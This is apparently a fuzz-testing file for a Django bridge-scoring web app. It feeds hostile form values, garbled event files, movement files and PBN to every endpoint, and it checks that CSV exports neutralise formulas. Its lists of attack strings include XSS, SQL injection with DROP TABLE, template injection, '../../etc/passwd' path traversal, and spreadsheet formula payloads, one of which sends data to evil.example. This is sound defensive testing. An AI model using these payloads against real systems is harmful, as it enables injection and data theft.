"""Bad input everywhere (issue 9): random and hostile values posted to every form and endpoint, random and
garbled event files, movement files and PBN fed to the importers. Never a 500 or a traceback, always a clear
message, and a refused write leaves the database exactly as it was (row counts and every event's export).

Each example is counted (``tried``); ``pytest tests/reliability`` prints the total."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
from typing import Any
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from duplicate import exports, services
from duplicate.exports.cells import FORMULA_START
from duplicate.models import Event, Pair, PlayChange
from duplicate.services import eventfile
from scoring import ScoringError
from scoring.deal import Deal
from scoring.movements import Movement, MovementError, generate
from tests.conftest import make_event

from .conftest import tried
from .helpers import board_data, db_counts, db_snapshot, plays_at, rolled_back

FIXTURES = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large]


def hsettings(n: int) -> settings:
    """``n`` examples; random locally, the same on every CI run (the "ci" profile: tests/conftest.py).  CI
    exploring afresh each time once failed on a case no run had met before: a red CI must mean a change."""
    return settings(max_examples=n, deadline=None, suppress_health_check=FIXTURES)


# --- Hostile values -----------------------------------------------------------------------------------------

NASTY = [
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "99999999999999999999999999",
    "-9223372036854775809",
    "NaN",
    "Infinity",
    "1.5",
    "0x10",
    "٣",  # Arabic-Indic three: isdigit() but not ASCII
    "²",  # superscript two: isdigit() and int() refuses it
    "1\u00a0",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    '"; DROP TABLE duplicate_play; --',
    "{{ 7*7 }}",
    "{% debug %}",
    "../../etc/passwd",
    "\x00",
    "\r\n\r\n",
    "A" * 5000,
    "🂡🂱",
    "N:AKQJ.T98.765.432 - - -",
    "7NTXX",
    "PASS",
    "4HX N 10",
    "NS-5-5",
    "low-high",
    "average",
    "true",
    "null",
    "[]",
    "{}",
]
text = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
)


def _ok_status(status: int) -> bool:
    return status < 500


# --- Every form and endpoint -------------------------------------------------------------------------------


@pytest.fixture
def world(db, director):
    """Two events (one with hands and results), a token, a change and a pair rename, as hostile targets."""
    event = make_event(name="Target")
    other = make_event(name="Other", code="whist")
    services.board_deals_set(event=event, deals=services.deals_random(event=event))
    play = plays_at(event, 1, 1)[0]
    writer = services.Writer(name="td", is_director=True, user_id=director.pk)
    services.play_result_save(
        play=play, data={"contract": "1C", "declarer": "N", "tricks": 7}, writer=writer, expected_version=0
    )
    token = services.table_token_create(section=event.sections.get(), table=1)
    pair = Pair.objects.filter(event=event).first()
    services.pair_names_update(pair=pair, player1="Ann", player2="Bo", user_id=director.pk)
    director_client = Client()
    director_client.force_login(director)
    return {
        "event": event,
        "other": other,
        "token": token,
        "pair": pair,
        "change": PlayChange.objects.get(),
        "director": director_client,
    }


FORM_FIELDS = [
    "name", "date", "code", "kind", "movement", "tables", "boards_per_round", "even_tables", "paper_size",
    "howell_pairs", "player1", "player2", "pbn_text", "random", "action", "token", "section", "table",
    "agreed", "next", "play", "username", "password",
]  # fmt: skip


def _endpoints(w: dict[str, Any]) -> list[str]:
    e, t = w["event"], w["token"]
    return [
        reverse("event_create"),
        reverse("event_import"),
        reverse("pair_edit", args=[e.pk, w["pair"].pk]),
        reverse("event_boards", args=[e.pk]),
        reverse("entry_table", args=[e.pk, "A", 1, 1]),
        reverse("entry_preview", args=[e.pk, "A", 1, 1]),
        reverse("entry_round_agree", args=[e.pk, "A", 2]),
        reverse("entry_tokens", args=[e.pk]),
        reverse("entry_token", args=[t.secret]),
        reverse("entry_token_preview", args=[t.secret]),
        reverse("change_undo", args=[e.pk, w["change"].pk]),
        reverse("names_undo", args=[e.pk, 1]),
        reverse("login"),
    ]


@hsettings(150)
@given(data=st.data())
def test_hostile_posts_to_every_form(world, data):
    with rolled_back():
        endpoints = _endpoints(world)
        url = data.draw(st.sampled_from(endpoints), label="url")
        play = plays_at(world["event"], 1, 1)[data.draw(st.integers(0, 1))]
        names = FORM_FIELDS + [
            k for k in board_data(play, quick="", level="", strain="", declarer="", tricks="")
        ]
        fields = data.draw(st.dictionaries(st.sampled_from(names) | text, text, max_size=12), label="fields")
        who = data.draw(st.sampled_from(["director", "anonymous"]), label="who")
        client = world["director"] if who == "director" else Client()
        before = db_snapshot()
        response = client.post(url, fields)
        tried("form post")
        assert _ok_status(response.status_code), (url, fields, response.status_code)
        if response.status_code != 302:
            assert db_snapshot() == before, (url, fields)


ENTRY_VALUES = {
    "quick": text,
    "level": st.sampled_from(["", "PASS", "1", "4", "7", "8", "0"]) | text,
    "strain": st.sampled_from(["", "C", "D", "H", "S", "NT", "RS", "X"]) | text,
    "doubling": st.sampled_from(["", "X", "XX", "XXX"]) | text,
    "declarer": st.sampled_from(["", "N", "E", "S", "W", "Q"]) | text,
    "tricks": text,
    "tricks_ns": text,
    "honours": st.sampled_from(["", "NS-4-4", "EW-5-3", "NS-9-9", "bad"]) | text,
    "one_spade_limit": st.sampled_from(["", "on", "1"]),
    "revokes_declarer_side": text,
    "revokes_defenders": text,
    "revokes_election": st.sampled_from(["", "points", "tricks", "x"]),
    "pen1_side": st.sampled_from(["", "NS", "EW", "XX"]),
    "pen1_law": text,
    "pen1_points": text,
    "pen2_side": st.sampled_from(["", "NS", "EW"]),
    "pen2_law": text,
    "pen2_points": text,
    "ruling": st.sampled_from(["", "average", "low-high", "bogus"]),
    "offending": st.sampled_from(["", "NS", "EW", "XX"]),
    "reason": text,
    "ns": text,
    "ew": text,
    "version": st.sampled_from(["0", "1", "-1", "", "x", "99999999999999999999"]),
    "action": st.sampled_from(["save", "clear", "", "delete"]),
}


@hsettings(120)
@given(data=st.data())
def test_hostile_result_entry(world, data):
    """Random and hostile values in every field of the entry form: by the director, and by a table link."""
    with rolled_back():
        event = world["event"] if data.draw(st.booleans(), label="hands") else world["other"]
        via_token = event == world["event"] and data.draw(st.booleans(), label="token")
        play = plays_at(event, 1, 1)[data.draw(st.integers(0, 1), label="board")]
        chosen = data.draw(
            st.lists(st.sampled_from(sorted(ENTRY_VALUES)), max_size=8, unique=True), label="keys"
        )
        post = board_data(play)
        for key in chosen:
            value = data.draw(ENTRY_VALUES[key], label=key)
            if key == "action":
                post["action"] = value
            else:
                post[f"b{play.pk}-{key}"] = value
        if via_token:
            client, url = Client(), reverse("entry_token", args=[world["token"].secret])
        else:
            client, url = world["director"], reverse("entry_table", args=[event.pk, "A", 1, 1])
        if data.draw(st.booleans(), label="fetch"):
            client = Client(HTTP_X_REQUESTED_WITH="fetch") if via_token else client
        before = db_snapshot()
        response = client.post(url, post)
        tried("result entry")
        assert _ok_status(response.status_code), (post, response.status_code)
        if response.status_code != 302 and b"Saved." not in response.content:
            assert db_snapshot() == before, post


@hsettings(30)
@given(
    letter=text,
    rnd=st.integers(0, 10**12),
    table=st.integers(0, 10**12),
    number=st.integers(0, 10**12),
    secret=text,
)
def test_hostile_urls(world, letter, rnd, table, number, secret):
    client = world["director"]
    e = world["event"].pk
    urls = [
        f"/events/{e}/entry/{quote(letter, safe='') or 'A'}/{rnd}/{table}/",
        f"/events/{e}/boards/{number}/",
        f"/events/{e}/pairs/{number}/card/",
        f"/events/{number}/",
        f"/events/{number}/export.json",
        f"/events/{number}/history/",
        f"/t/{quote(secret, safe='') or 'x'}/",
    ]
    for url in urls:
        response = client.get(url)
        tried("url")
        assert _ok_status(response.status_code), url


def test_invalid_utf8_and_junk_bodies(world):
    """Raw bodies no browser would send: invalid UTF-8, truncated multipart, wrong content types."""
    client = world["director"]
    bodies = [
        ("application/x-www-form-urlencoded", b"name=%ff%fe&tables=%c0%af&player1=%ed%a0%80"),
        ("application/x-www-form-urlencoded", b"\xff\xfe\x00=\x00"),
        ("multipart/form-data; boundary=xyz", b'--xyz\r\nContent-Disposition: form-data; name="file"\r\n'),
        ("multipart/form-data", b"garbage"),
        ("application/json", b'{"name": '),
        ("text/plain", b"\x00" * 1000),
    ]
    for url in _endpoints(world):
        for content_type, body in bodies:
            before = db_snapshot()
            response = client.generic("POST", url, body, content_type=content_type)
            tried("raw body")
            assert _ok_status(response.status_code), (url, content_type)
            if response.status_code != 302:  # (an empty POST is a good undo, or clears a pair's names)
                assert db_snapshot() == before, (url, content_type)


# --- Event files --------------------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.floats(allow_nan=False) | text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(text, children, max_size=4),
    max_leaves=12,
)


@pytest.fixture(scope="module")
def good_export(django_db_setup, django_db_blocker):
    """A valid event file with hands, names and results (built once, then rolled back)."""
    with django_db_blocker.unblock(), transaction.atomic():
        event = make_event(tables=3)
        services.board_deals_set(event=event, deals=services.deals_random(event=event))
        writer = services.Writer(name="td", is_director=True)
        for play in plays_at(event, 1, 1) + plays_at(event, 1, 2):
            services.play_result_save(
                play=play,
                data={"contract": "2S", "declarer": "E", "tricks": 8},
                writer=writer,
                expected_version=0,
            )
        out = eventfile.event_export(event)
        transaction.set_rollback(True)
    return out


def _import_or_refuse(data: Any) -> None:
    before = db_counts()
    try:
        if not isinstance(data, str):
            data = json.dumps(data)  # the importer reads files: text first
        data = eventfile.parse_json(data)
        event = eventfile.event_import(data=data)
    except services.ServiceError as exc:
        assert str(exc)
        assert "Traceback" not in str(exc)
        assert db_counts() == before
    else:
        assert isinstance(event, Event)


@hsettings(100)
@given(value=json_values)
def test_random_json_event_files(db, value):
    with rolled_back():
        tried("event file")
        _import_or_refuse(json.dumps(value))


def _paths(obj: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix]
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _paths(v, (*prefix, i))
    return out


def _mutate(doc: Any, path: tuple, how: str, value: Any) -> Any:
    if not path:
        return value
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    key = path[-1]
    if how == "delete":
        del parent[key]
    elif how == "duplicate" and isinstance(parent, list):
        parent.append(json.loads(json.dumps(parent[key])))
    else:
        parent[key] = value
    return doc


@hsettings(150)
@given(data=st.data())
def test_mutated_event_files(db, good_export, data):
    """A good event file with one to three fields replaced, deleted or duplicated."""
    with rolled_back():
        doc = json.loads(json.dumps(good_export))
        for _ in range(data.draw(st.integers(1, 3), label="mutations")):
            path = data.draw(st.sampled_from(_paths(doc)), label="path")
            how = data.draw(st.sampled_from(["replace", "delete", "duplicate", "replace"]), label="how")
            value = data.draw(
                json_values | st.sampled_from([0, -1, 14, 10**6, "", "N", "4HX", "7NT", "average", [], {}]),
                label="value",
            )
            doc = _mutate(doc, path, how, value)
            if not isinstance(doc, dict):
                break
        tried("event file")
        _import_or_refuse(doc)


@pytest.mark.parametrize("paper", [[None, None], "tabloid-please", 5, "a4"])
def test_an_event_file_with_a_paper_size_of_no_kind_is_refused_naming_it(db, good_export, paper):
    """Found by the fuzzing above on PostgreSQL: the paper size was stored as the text of whatever was
    given (SQLite kept "[None, None]"; PostgreSQL refused it past 8 characters with a 500)."""
    before = db_counts()
    doc = {**json.loads(json.dumps(good_export)), "paper_size": paper}
    with pytest.raises(services.ServiceError) as refused:
        eventfile.event_import(data=eventfile.parse_json(json.dumps(doc)))
    assert str(refused.value).startswith("paper_size: must be one of A4, letter, got ")
    assert db_counts() == before
    imported = eventfile.event_import(data=eventfile.parse_json(json.dumps({**doc, "paper_size": "letter"})))
    assert imported.paper_size == "letter"


@pytest.mark.parametrize(
    ("where", "limit", "field"),
    [
        ("name", 200, "name: at most 200 characters"),
        ("player", 100, "pair 1: players: at most 100 characters"),
    ],
)
def test_an_event_file_with_a_text_longer_than_its_column_is_refused_naming_it(
    db, good_export, where, limit, field
):
    """A name longer than the database holds (PostgreSQL refused it with a 500; SQLite kept it): refused by
    the service with the field; one of the longest that fit is imported."""

    def doc_with(text: str) -> dict:
        doc = json.loads(json.dumps(good_export))
        if where == "name":
            doc["name"] = text
        else:
            doc["pairs"][0]["players"] = [text, ""]
        return doc

    before = db_counts()
    with pytest.raises(services.ServiceError) as refused:
        eventfile.event_import(data=eventfile.parse_json(json.dumps(doc_with("é" * (limit + 1)))))
    assert str(refused.value) == f"{field}, got {limit + 1}"
    assert db_counts() == before
    event = eventfile.event_import(data=eventfile.parse_json(json.dumps(doc_with("é" * limit))))
    if where == "name":
        assert event.name == "é" * limit
    else:
        pair = event.pairs.get(number="1")
        assert pair.player1.name == "é" * limit
        with pytest.raises(services.ServiceError, match="player2: at most 100 characters, got 101"):
            services.pair_names_update(pair=pair, player1="A", player2="b" * 101)


def test_a_team_name_longer_than_its_column_is_refused_naming_it(db):
    movement = services.movement_build(kind="teams", tables=2, boards_per_round=2)

    def match(first_team: str) -> Event:
        return services.event_create(
            name="Match",
            date=dt.date(1916, 3, 4),
            code="auction-1915",
            kind="teams",
            movement=movement,
            teams=[first_team, "S"],
        )

    before = db_counts()
    with pytest.raises(services.ServiceError, match=r"^teams: at most 100 characters, got 101$"):
        match("N" * 101)
    assert db_counts() == before
    event = match("N" * 100)
    assert sorted(event.teams.values_list("name", flat=True)) == ["N" * 100, "S"]


@hsettings(30)
@given(blob=st.binary(max_size=300))
def test_garbled_event_file_uploads(world, blob, good_export):
    """Random bytes, and a good file cut short or with bytes flipped, uploaded through the import page."""
    with rolled_back():
        good = json.dumps(good_export).encode()
        cut = random.Random(len(blob)).randint(0, len(good))
        for content in (blob, good[:cut], good[:cut] + blob + good[cut:], b"\xef\xbb\xbf" + good[:cut]):
            before = db_counts()
            upload = SimpleUploadedFile("event.json", content, content_type="application/json")
            response = world["director"].post(reverse("event_import"), {"file": upload})
            tried("event file upload")
            assert response.status_code in (200, 302)
            if response.status_code == 200:
                assert db_counts() == before
                assert b'class="errorlist' in response.content


# --- Movement files -----------------------------------------------------------------------------------------

GOOD_MOVEMENTS = [
    generate("mitchell", tables=3, boards_per_round=2),
    generate("howell", tables=4, boards_per_round=2),
]


@hsettings(300)
@given(data=st.data())
def test_movement_files(data):
    movement = data.draw(st.sampled_from(GOOD_MOVEMENTS))
    form = data.draw(st.sampled_from(["csv", "json", "random"]))
    if form == "random":
        source = data.draw(text | json_values.map(json.dumps))
    else:
        source = movement.to_csv() if form == "csv" else movement.to_json()
        lines = source.splitlines()
        for _ in range(data.draw(st.integers(1, 3))):
            i = data.draw(st.integers(0, max(0, len(lines) - 1)))
            how = data.draw(st.sampled_from(["replace", "delete", "duplicate", "splice"]))
            piece = data.draw(text)
            if not lines:
                lines = [piece]
            elif how == "replace":
                lines[i] = piece
            elif how == "delete":
                del lines[i]
            elif how == "duplicate":
                lines.insert(i, lines[i])
            else:
                pos = data.draw(st.integers(0, len(lines[i])))
                lines[i] = lines[i][:pos] + piece + lines[i][pos:]
        source = "\n".join(lines)
    tried("movement file")
    for parse in (Movement.from_csv, Movement.from_json):
        try:
            parse(source)
        except MovementError as exc:
            assert str(exc)
    try:
        services.movement_build(kind="custom", tables=1, boards_per_round=1, custom=source)
    except services.ServiceError as exc:
        assert str(exc).startswith("movement")


@hsettings(30)
@given(content=st.binary(max_size=200) | text.map(str.encode))
def test_movement_uploads_through_the_new_event_form(world, content):
    with rolled_back():
        good = GOOD_MOVEMENTS[0].to_csv().encode()
        for body in (content, good[: len(content) % len(good)] + content):
            before = db_counts()
            response = world["director"].post(
                reverse("event_create"),
                {
                    "name": "Custom", "date": "1916-03-04", "code": "auction-1915", "kind": "pairs",
                    "movement": "custom", "tables": "3", "boards_per_round": "2", "paper_size": "A4",
                    "movement_file": SimpleUploadedFile("m.csv", body),
                },
            )  # fmt: skip
            tried("movement upload")
            assert response.status_code in (200, 302)
            if response.status_code == 200:
                assert db_counts() == before


# --- PBN ------------------------------------------------------------------------------------------------------


def _pbn_file(deals: dict[int, str]) -> str:
    return "\n".join(f'[Board "{n}"]\n[Dealer "N"]\n[Deal "{d}"]\n' for n, d in deals.items())


@hsettings(40)
@given(data=st.data())
def test_pbn_deals_and_files(world, data):
    with rolled_back():
        event = world["event"]
        deals = {b.number: b.deal for b in event.boards.all()}
        source = _pbn_file(deals)
        how = data.draw(st.sampled_from(["random", "splice", "deal"]))
        if how == "random":
            source = data.draw(text)
        elif how == "splice":
            pos = data.draw(st.integers(0, len(source)))
            source = source[:pos] + data.draw(text) + source[pos + data.draw(st.integers(0, 20)) :]
        else:
            deal = data.draw(st.sampled_from(list(deals.values())))
            pos = data.draw(st.integers(0, len(deal)))
            source = _pbn_file({1: deal[:pos] + data.draw(text) + deal[pos + 1 :]})
        tried("pbn")
        try:
            Deal.parse_pbn(source)
        except ScoringError as exc:
            assert str(exc)
        before = db_snapshot()
        try:
            parsed = services.deals_from_pbn_file(source)
            services.board_deals_set(event=event, deals=parsed)
        except services.ServiceError as exc:
            assert str(exc)
            assert db_snapshot() == before
        # The same through the boards page: pasted and uploaded.
        client = world["director"]
        for post in (
            {"pbn_text": source},
            {"pbn_file": SimpleUploadedFile("h.pbn", source.encode("utf-8", "replace"))},
        ):
            before = db_snapshot()
            response = client.post(reverse("event_boards", args=[event.pk]), post)
            tried("pbn upload")
            assert response.status_code in (200, 302)
            if response.status_code == 200:
                assert db_snapshot() == before


# --- Spreadsheet formulas, a table link's clear, the table links page's hidden fields ----------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "#N/A",
    "-30",
]


def _csv_number(cell: str) -> bool:
    return all(part.lstrip("-").isdecimal() for part in cell.split("/", 1))


@hsettings(40)
@given(data=st.data())
def test_csv_cells_never_read_as_formulas(world, data):
    """Hostile players' names through the pair form: in both public CSVs no cell starts as a formula, an
    error code or a tab unless it is a number; a stored name that would is there quote-prefixed."""
    with rolled_back():
        event, pair = world["event"], world["pair"]
        names = {
            f"player{i}": data.draw(st.sampled_from(FORMULA_NAMES) | text, label=f"player{i}") for i in (1, 2)
        }
        world["director"].post(reverse("pair_edit", args=[event.pk, pair.pk]), names)
        tried("csv formula")
        pair.refresh_from_db()
        stored = [p.name for p in (pair.player1, pair.player2) if p is not None]
        cells = [
            cell
            for body in (exports.standings_file(event, "csv"), exports.results_file(event))
            for row in csv.reader(io.StringIO(body.decode()))
            for cell in row
        ]
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or _csv_number(cell), cell
        for name in stored:
            assert (f"'{name}" if name.startswith(FORMULA_START) else name) in cells


@hsettings(30)
@given(data=st.data())
def test_a_table_link_never_clears(world, data):
    """A clear posted through a table link, with any other fields: refused (403, or the form's own error),
    and the result stays."""
    with rolled_back():
        token, event = world["token"], world["event"]
        play = plays_at(event, 1, 1)[data.draw(st.integers(0, 1), label="board")]
        post = board_data(play, action="clear")
        for key in data.draw(st.lists(st.sampled_from(sorted(ENTRY_VALUES)), max_size=4, unique=True)):
            if key != "action":
                post[f"b{play.pk}-{key}"] = data.draw(ENTRY_VALUES[key], label=key)
        headers = {"HTTP_X_REQUESTED_WITH": "fetch"} if data.draw(st.booleans(), label="fetch") else {}
        before = db_snapshot()
        response = Client().post(reverse("entry_token", args=[token.secret]), post, **headers)
        tried("table link clear")
        assert response.status_code in (403, 409, 422), response.status_code
        assert db_snapshot() == before


@hsettings(60)
@given(action=st.sampled_from(["revoke", "create", "create_all", ""]) | text, token=text, section=text)
def test_table_links_page_hidden_fields(world, action, token, section):
    """The table links page's hidden fields, damaged: a 400 naming the field, a 404 for no such row, or the
    action done; never a 500."""
    with rolled_back():
        url = reverse("entry_tokens", args=[world["event"].pk])
        post = {"action": action, "token": token, "section": section, "table": "1"}
        response = world["director"].post(url, post)
        tried("table links hidden field")
        assert response.status_code in (302, 400, 404), (post, response.status_code)
        if response.status_code == 400:
            html = response.content.decode()
            assert any(f"{field}: " in html for field in ("action", "token", "section")), post
